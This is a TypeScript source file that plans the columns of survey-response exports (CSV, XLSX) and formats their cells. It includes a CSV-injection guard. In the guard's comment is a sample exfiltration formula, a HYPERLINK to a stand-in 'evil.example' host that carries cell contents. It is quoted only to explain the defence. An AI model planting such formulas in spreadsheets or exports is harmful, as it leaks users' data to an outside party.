import { displayOnlyTypes, dynamicTypes, multipleChoiceTypes } from "../survey-model/question-types.ts";
import type { Question, SurveyModel } from "survey-core";
import type { ItemDefinition, ScoringModel } from "../scoring/scoring-model.ts";
import { textIn, type TextSource } from "./localized-text.ts";

// The columns of the exports (CSV, the XLSX sheets, the codebook), planned from a questionnaire version, and the
// cells of one response in them. Pure: the survey model is only read.
//
// A column is named by the path of its answer cell in the SurveyJS data: `q`, `matrix.row`, `mdrop.row.col`,
// `multi.item`, `panel[0].q`, `mdyn[1].col`, `q-Comment` (SurveyJS's own key for an "other" text or a comment).
// With choice columns, a checkbox also gets one 0/1 column per choice, `<path>=<value>` (see docs/reports.md).

export type PathStep = string | number;
export type CellValue = string | number | boolean | null;

export const fixedColumnKeys = [
  "response_id",
  "organization",
  "region",
  "kind",
  "mode",
  "status",
  "submitted_at",
  "questionnaire_version",
] as const;

/** Joins the values of a multiple-choice answer (checkbox, tagbox, ranking) in one cell. */
export const multipleValueSeparator = ";";

/** `value`: the answer (a list joined); `file`: the file names; `flag`: 1 when the choice is ticked, else 0. */
export type ColumnFormat = "value" | "file" | "flag";

/** A piece of a column's text (question title, row, column...); `fallback` when it has no text in any language. */
export interface TextPiece {
  text: TextSource | null;
  fallback: string;
}

export interface Choice {
  value: unknown;
  text: TextPiece;
}

export interface AnswerColumn {
  key: string;
  /** Where the cell's value is in the answers: strings are object keys, numbers array indexes. */
  path: PathStep[];
  format: ColumnFormat;
  /** `flag` columns: the choice value whose presence makes 1. */
  flag?: string;
  /** The question the cell belongs to, e.g. the matrix of a matrix row, and its type. */
  question: string;
  type: string;
  /** The column's text, piece by piece (parent titles, question title, row, column, choice). */
  texts: TextPiece[];
  /** What the values mean (choices, matrix columns, yes/no), for labels and the codebook. */
  choices: Choice[];
  /** The scoring item of the column's question, for the answer column of a scored top-level question. */
  scored: ItemDefinition | null;
  /** value -> label in the requested language, when labels were asked for. */
  labels: Map<string, string> | null;
}

export interface PlanOptions {
  /**
   * How many panels / rows of each dynamic question to flatten: the most any response has (see
   * `measureDynamic`). Keys: the question's value name, `parent[].child` inside a dynamic panel.
   */
  dynamicCounts?: ReadonlyMap<string, number>;
  /** One 0/1 column per checkbox choice. */
  choiceColumns?: boolean;
  /** Labels instead of values, in this language. */
  labelsIn?: string | null;
  /** false: top-level dynamic panels and matrices get no columns (the XLSX gives each a sheet of its own). */
  flattenDynamic?: boolean;
  /** Keys the answer columns must not take (the fixed and score columns): such a column is prefixed `q.`. */
  reserved?: ReadonlySet<string>;
}

type AnyQuestion = Question & Record<string, any>;
type AnyItem = Record<string, any>;

/** `["panel", 0, "q"]` -> `panel[0].q`. */
export function pathKey(path: readonly PathStep[]): string {
  let key = "";
  for (const step of path) {
    if (typeof step === "number") key += `[${step}]`;
    else key += key === "" ? step : `.${step}`;
  }
  return key;
}

function piece(text: TextSource | null | undefined, fallback: string): TextPiece {
  return { text: text ?? null, fallback };
}

function titleOf(q: AnyQuestion): TextPiece {
  return piece(q.locTitle ?? null, q.name);
}

function itemPiece(item: AnyItem): TextPiece {
  return piece(item.locText ?? null, String(item.value));
}

/** The choices of a choice question, with the special items it shows ("other", "none", ...). */
function choicesOf(q: AnyQuestion): Choice[] {
  const type = q.getType();
  if (type === "boolean") {
    return [
      { value: q.valueTrue ?? true, text: piece(q.locLabelTrue ?? null, "true") },
      { value: q.valueFalse ?? false, text: piece(q.locLabelFalse ?? null, "false") },
    ];
  }
  if (type === "rating")
    return ((q.visibleRateValues ?? []) as AnyItem[]).map((i) => ({ value: i.value, text: itemPiece(i) }));
  const items: AnyItem[] = [...((q.choices ?? []) as AnyItem[])];
  const special: Array<[string, string]> = [
    ["showOtherItem", "otherItem"],
    ["showNoneItem", "noneItem"],
    ["showRefuseItem", "refuseItem"],
    ["showDontKnowItem", "dontKnowItem"],
  ];
  for (const [flag, itemName] of special) if (q[flag] && q[itemName]) items.push(q[itemName]);
  return items.map((i) => ({ value: i.value, text: itemPiece(i) }));
}

function hasCommentKey(q: AnyQuestion): boolean {
  return Boolean(q.showOtherItem || q.hasOther || q.showCommentArea || q.hasComment);
}

interface WalkContext {
  options: PlanOptions;
  scoredItems: ReadonlyMap<string, ItemDefinition>;
  out: AnswerColumn[];
  /** Paths already given a column. */
  cells: Set<string>;
}

interface Scope {
  /** The path of the object holding the question's value. */
  path: PathStep[];
  /** Key of the enclosing dynamic question in `dynamicCounts` ("" at the top level). */
  dynamicKey: string;
  /** Titles of the enclosing questions (and panel numbers). */
  texts: TextPiece[];
  topLevel: boolean;
}

function push(ctx: WalkContext, column: Omit<AnswerColumn, "key" | "labels">): void {
  // Two questions under one name (identical copies, which lint allows) hold one value: one column.
  const cell = JSON.stringify(column.path);
  if (ctx.cells.has(cell)) return;
  ctx.cells.add(cell);
  ctx.out.push({ ...column, key: pathKey(column.path), labels: null });
}

function addChoiceFlags(ctx: WalkContext, base: Omit<AnswerColumn, "key" | "labels">, choices: Choice[]): void {
  if (!ctx.options.choiceColumns) return;
  for (const choice of choices) {
    const cell = JSON.stringify([...base.path, { flag: String(choice.value) }]);
    if (ctx.cells.has(cell)) continue;
    ctx.cells.add(cell);
    ctx.out.push({
      ...base,
      key: `${pathKey(base.path)}=${String(choice.value)}`,
      format: "flag",
      flag: String(choice.value),
      texts: [...base.texts, choice.text],
      choices: [],
      scored: null,
      labels: null,
    });
  }
}

/** Columns of one matrix cell (matrixdropdown / matrixdynamic), from the column's cell question. */
function planCell(ctx: WalkContext, matrix: AnyQuestion, column: AnyItem, path: PathStep[], texts: TextPiece[]): void {
  const template = (column.templateQuestion ?? {}) as AnyQuestion;
  const type = typeof template.getType === "function" ? template.getType() : "text";
  let choices: Choice[] = [];
  if (type === "boolean" || type === "rating") choices = choicesOf(template);
  else if (Array.isArray(template.choices)) {
    // A column without choices of its own takes the matrix's.
    choices =
      template.choices.length > 0
        ? choicesOf(template)
        : ((matrix.choices ?? []) as AnyItem[]).map((i) => ({ value: i.value, text: itemPiece(i) }));
  }
  const base = {
    path,
    format: (type === "file" ? "file" : "value") as ColumnFormat,
    question: matrix.name,
    type,
    texts: [...texts, piece(column.locTitle ?? null, String(column.name))],
    choices,
    scored: null,
  };
  push(ctx, base);
  if (multipleChoiceTypes.has(type) || (type === "imagepicker" && template.multiSelect))
    addChoiceFlags(ctx, base, choices);
}

function planQuestion(ctx: WalkContext, q: AnyQuestion, scope: Scope): void {
  const type = q.getType();
  if (displayOnlyTypes.has(type)) return;
  const name = q.getValueName ? q.getValueName() : q.name;
  const path = [...scope.path, name];
  const texts = [...scope.texts, titleOf(q)];
  const dynamicKey = scope.dynamicKey === "" ? name : `${scope.dynamicKey}[].${name}`;
  const count = ctx.options.dynamicCounts?.get(dynamicKey) ?? 0;

  switch (type) {
    case "matrix": {
      const choices = ((q.columns ?? []) as AnyItem[]).map((c) => ({ value: c.value, text: itemPiece(c) }));
      for (const row of (q.rows ?? []) as AnyItem[]) {
        push(ctx, {
          path: [...path, String(row.value)],
          format: "value",
          question: q.name,
          type,
          texts: [...texts, itemPiece(row)],
          choices,
          scored: null,
        });
      }
      return;
    }
    case "matrixdropdown":
      for (const row of (q.rows ?? []) as AnyItem[]) {
        for (const column of (q.columns ?? []) as AnyItem[]) {
          planCell(ctx, q, column, [...path, String(row.value), String(column.name)], [...texts, itemPiece(row)]);
        }
      }
      return;
    case "matrixdynamic":
      if (scope.topLevel && ctx.options.flattenDynamic === false) return;
      for (let i = 0; i < count; i++) {
        for (const column of (q.columns ?? []) as AnyItem[]) {
          planCell(ctx, q, column, [...path, i, String(column.name)], [...texts, piece(null, `#${i + 1}`)]);
        }
      }
      return;
    case "paneldynamic":
      if (scope.topLevel && ctx.options.flattenDynamic === false) return;
      for (let i = 0; i < count; i++) {
        for (const nested of (q.template?.questions ?? []) as AnyQuestion[]) {
          planQuestion(ctx, nested, {
            path: [...path, i],
            dynamicKey,
            texts: [...texts, piece(null, `#${i + 1}`)],
            topLevel: false,
          });
        }
      }
      return;
    case "multipletext":
      for (const item of (q.items ?? []) as AnyItem[]) {
        push(ctx, {
          path: [...path, String(item.name)],
          format: "value",
          question: q.name,
          type,
          texts: [...texts, piece(item.locTitle ?? null, String(item.name))],
          choices: [],
          scored: null,
        });
      }
      return;
  }

  const choices = Array.isArray(q.choices) || type === "boolean" || type === "rating" ? choicesOf(q) : [];
  const base = {
    path,
    format: (type === "file" ? "file" : "value") as ColumnFormat,
    question: q.name,
    type,
    texts,
    choices,
    scored: scope.topLevel ? (ctx.scoredItems.get(q.name) ?? null) : null,
  };
  push(ctx, base);
  if (multipleChoiceTypes.has(type) || (type === "imagepicker" && q.multiSelect)) {
    addChoiceFlags(
      ctx,
      base,
      choices.filter((c) => c.value !== undefined),
    );
  }
  if (hasCommentKey(q)) {
    push(ctx, {
      path: [...scope.path, `${name}-Comment`],
      format: "value",
      question: q.name,
      type: "comment",
      texts: [
        ...texts,
        piece((q.showOtherItem || q.hasOther ? q.otherItem?.locText : q.locCommentText) ?? null, "comment"),
      ],
      choices: [],
      scored: null,
    });
  }
}

/**
 * Gives every column a unique key: a key equal to a reserved one (fixed and score columns) is prefixed `q.`,
 * and a key already taken gets `~2`, `~3`... (only a questionnaire whose names look like paths can do that).
 */
function assignKeys(columns: AnswerColumn[], reserved: ReadonlySet<string>): void {
  const taken = new Set(reserved);
  for (const column of columns) {
    let key = reserved.has(column.key) ? `q.${column.key}` : column.key;
    if (taken.has(key)) {
      let n = 2;
      while (taken.has(`${key}~${n}`)) n++;
      key = `${key}~${n}`;
    }
    taken.add(key);
    column.key = key;
  }
}

function addLabels(columns: AnswerColumn[], lang: string): void {
  for (const column of columns) {
    if (column.format !== "value" || column.choices.length === 0) continue;
    column.labels = new Map(
      column.choices.map((c) => [String(c.value), textIn(c.text.text, lang) || c.text.fallback] as [string, string]),
    );
  }
}

function scoredItemsOf(scoring: ScoringModel | null): Map<string, ItemDefinition> {
  return new Map((scoring?.items ?? []).map((item) => [item.question, item]));
}

/** The answer columns of a questionnaire version, in page order. */
export function planAnswerColumns(
  survey: SurveyModel,
  scoring: ScoringModel | null,
  options: PlanOptions = {},
): AnswerColumn[] {
  const ctx: WalkContext = { options, scoredItems: scoredItemsOf(scoring), out: [], cells: new Set() };
  for (const q of survey.getAllQuestions(false, false, false) as AnyQuestion[]) {
    planQuestion(ctx, q, { path: [], dynamicKey: "", texts: [], topLevel: true });
  }
  for (const calculated of (survey.calculatedValues ?? []) as AnyItem[]) {
    if (!calculated.includeIntoResult) continue;
    ctx.out.push({
      key: String(calculated.name),
      path: [String(calculated.name)],
      format: "value",
      question: String(calculated.name),
      type: "calculatedvalue",
      texts: [piece(null, String(calculated.name))],
      choices: [],
      scored: null,
      labels: null,
    });
  }
  assignKeys(ctx.out, options.reserved ?? new Set());
  if (options.labelsIn) addLabels(ctx.out, options.labelsIn);
  return ctx.out;
}

export interface DynamicSheetPlan {
  /** The dynamic question's value name: its data is `answers[name]`, an array. */
  name: string;
  type: "paneldynamic" | "matrixdynamic";
  texts: TextPiece[];
  /** Columns of one panel / row, their paths relative to it. */
  columns: AnswerColumn[];
}

/** The reserved first columns of a dynamic question's sheet: which response, and which panel or row (from 0). */
export const dynamicSheetKeys = ["response_id", "index"] as const;

/** One plan per top-level dynamic panel or dynamic matrix: the columns of its long-format sheet. */
export function planDynamicSheets(
  survey: SurveyModel,
  scoring: ScoringModel | null,
  options: Omit<PlanOptions, "flattenDynamic" | "reserved"> = {},
): DynamicSheetPlan[] {
  const plans: DynamicSheetPlan[] = [];
  for (const q of survey.getAllQuestions(false, false, false) as AnyQuestion[]) {
    const type = q.getType();
    if (!dynamicTypes.has(type)) continue;
    const name = q.getValueName ? q.getValueName() : q.name;
    const ctx: WalkContext = { options, scoredItems: scoredItemsOf(scoring), out: [], cells: new Set() };
    const texts = [titleOf(q)];
    if (type === "matrixdynamic") {
      for (const column of (q.columns ?? []) as AnyItem[]) planCell(ctx, q, column, [String(column.name)], texts);
    } else {
      for (const nested of (q.template?.questions ?? []) as AnyQuestion[]) {
        planQuestion(ctx, nested, { path: [], dynamicKey: name, texts, topLevel: false });
      }
    }
    assignKeys(ctx.out, new Set(dynamicSheetKeys));
    if (options.labelsIn) addLabels(ctx.out, options.labelsIn);
    plans.push({ name, type: type as DynamicSheetPlan["type"], texts, columns: ctx.out });
  }
  return plans;
}

// ---- how many panels / rows to flatten ----

interface DynamicNode {
  key: string;
  name: string;
  children: DynamicNode[];
}

function dynamicNodes(questions: AnyQuestion[], parentKey: string): DynamicNode[] {
  const nodes: DynamicNode[] = [];
  for (const q of questions) {
    const type = q.getType();
    if (!dynamicTypes.has(type)) continue;
    const name = q.getValueName ? q.getValueName() : q.name;
    const key = parentKey === "" ? name : `${parentKey}[].${name}`;
    const children = type === "paneldynamic" ? dynamicNodes((q.template?.questions ?? []) as AnyQuestion[], key) : [];
    nodes.push({ key, name, children });
  }
  return nodes;
}

function measureNodes(nodes: DynamicNode[], holder: unknown, counts: Map<string, number>): void {
  if (typeof holder !== "object" || holder === null) return;
  for (const node of nodes) {
    const value = (holder as Record<string, unknown>)[node.name];
    if (!Array.isArray(value)) continue;
    if (value.length > (counts.get(node.key) ?? 0)) counts.set(node.key, value.length);
    if (node.children.length > 0) for (const element of value) measureNodes(node.children, element, counts);
  }
}

/**
 * A measurer of dynamic panels and matrices: call it on each response's answers, then plan with the counts it
 * kept (the most panels / rows any response has), so that a first pass over the rows needs no more memory than
 * one response.
 */
export function dynamicMeasurer(survey: SurveyModel): {
  hasDynamic: boolean;
  measure(answers: Record<string, unknown>): void;
  counts: Map<string, number>;
} {
  const nodes = dynamicNodes(survey.getAllQuestions(false, false, false) as AnyQuestion[], "");
  const counts = new Map<string, number>();
  return { hasDynamic: nodes.length > 0, measure: (answers) => measureNodes(nodes, answers, counts), counts };
}

/** Merges the counts of several questionnaire versions (the larger wins). */
export function mergeCounts(target: Map<string, number>, source: ReadonlyMap<string, number>): void {
  for (const [key, n] of source) if (n > (target.get(key) ?? 0)) target.set(key, n);
}

// ---- cells ----

function valueAt(answers: unknown, path: readonly PathStep[]): unknown {
  let current = answers;
  for (const step of path) {
    if (current === null || current === undefined || typeof current !== "object") return undefined;
    current = (current as Record<string | number, unknown>)[step];
  }
  return current;
}

function scalar(value: unknown): CellValue {
  if (value === null || value === undefined) return null;
  if (typeof value === "string" || typeof value === "number" || typeof value === "boolean") return value;
  return JSON.stringify(value);
}

function labelled(column: AnswerColumn, value: unknown): CellValue {
  if (column.labels && (typeof value !== "object" || value === null)) {
    const label = column.labels.get(String(value));
    if (label !== undefined) return label;
  }
  return scalar(value);
}

/** The cell of one column for one response's answers (null: no answer). */
export function cellValue(column: AnswerColumn, answers: unknown): CellValue {
  const value = valueAt(answers, column.path);
  if (value === undefined || value === null || value === "") return null;
  switch (column.format) {
    case "flag": {
      const values = Array.isArray(value) ? value : [value];
      return values.some((v) => String(v) === column.flag) ? 1 : 0;
    }
    case "file":
      if (!Array.isArray(value)) return scalar(value);
      return value
        .map((f) => (typeof f === "object" && f !== null && "name" in f ? String(f.name) : String(scalar(f))))
        .join(multipleValueSeparator);
    case "value":
      if (Array.isArray(value)) return value.map((v) => String(labelled(column, v) ?? "")).join(multipleValueSeparator);
      return labelled(column, value);
  }
}

/** The cells of one response in the given columns. */
export function answerCells(columns: readonly AnswerColumn[], answers: unknown): CellValue[] {
  return columns.map((column) => cellValue(column, answers));
}

/** The column's text in one language: its pieces joined, e.g. "Team members — #1 — Name". */
export function columnText(column: Pick<AnswerColumn, "texts">, lang: string): string {
  return column.texts.map((p) => textIn(p.text, lang) || p.fallback).join(" — ");
}

// ---- several questionnaire versions in one export ----

/**
 * The keys of an export over several versions: the newest version's columns in its order, then any column only
 * an older version has. Each row takes its cells from its own version's plan (a key that version lacks is empty).
 */
export function mergeColumnKeys(plans: ReadonlyArray<readonly AnswerColumn[]>): string[] {
  const keys: string[] = [];
  const seen = new Set<string>();
  for (const plan of plans) {
    for (const column of plan) {
      if (seen.has(column.key)) continue;
      seen.add(column.key);
      keys.push(column.key);
    }
  }
  return keys;
}

/** The cells of a response of one version, in the merged keys' order. */
export function mergedAnswerCells(
  keys: readonly string[],
  plan: ReadonlyMap<string, AnswerColumn>,
  answers: unknown,
): CellValue[] {
  return keys.map((key) => {
    const column = plan.get(key);
    return column ? cellValue(column, answers) : null;
  });
}

// ---- formatting ----

/** A CSV field: booleans `true`/`false`, numbers at full precision, no answer empty, text never a formula. */
export function csvField(value: CellValue): string {
  if (value === null) return "";
  if (typeof value === "boolean") return value ? "true" : "false";
  // The same text as String(value) for a finite number (JSON's number format is ToString), but String() keeps each
  // result in V8's number-to-string cache, which holds it past young-generation collections: over an export of
  // 100k rows those strings piled up as ~40 MB of old-generation garbage before a full collection.
  if (typeof value === "number" && Number.isFinite(value)) return JSON.stringify(value);
  return neutralizeFormula(String(value));
}

/** A text that is only a number: a spreadsheet reads it as that number, never as a formula. */
const numericText = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * Excel, LibreOffice and Sheets run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
 * formula (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the sheet away): such a text gets a leading `'`,
 * as OWASP's "CSV injection" advice says. A text that is a plain number (`-12.5`, `+996`) stays as written.
 */
export function neutralizeFormula(text: string): string {
  const first = text.charCodeAt(0);
  // = + - @ TAB CR
  if (first !== 0x3d && first !== 0x2b && first !== 0x2d && first !== 0x40 && first !== 0x09 && first !== 0x0d) {
    return text;
  }
  return numericText.test(text) ? text : `'${text}`;
}

const csvSpecial = /[",\r\n]/;

/**
 * One CSV record, CRLF-terminated (RFC 4180): a field is quoted when it holds a comma, a quote or a line break, a
 * lone \n or \r included, its quotes doubled. Written here rather than by csv-stringify, whose per-field bookkeeping
 * made ~45 kB of garbage per exported row, and which, given a CRLF record delimiter, left a lone \n unquoted (a
 * multi-line comment then ran across rows in Excel).
 */
export function csvRecord(values: readonly CellValue[]): string {
  let line = "";
  for (let i = 0; i < values.length; i++) {
    const text = csvField(values[i] ?? null);
    if (i > 0) line += ",";
    line += csvSpecial.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
  }
  return `${line}\r\n`;
}

/** Excel refuses longer text in a cell. */
export const xlsxMaxText = 32767;

/** An XLSX cell: numbers and booleans as such, text cut to what Excel accepts (ending "…"). */
export function xlsxCell(value: CellValue): CellValue {
  if (typeof value === "string" && value.length > xlsxMaxText) return `${value.slice(0, xlsxMaxText - 1)}…`;
  return value;
}
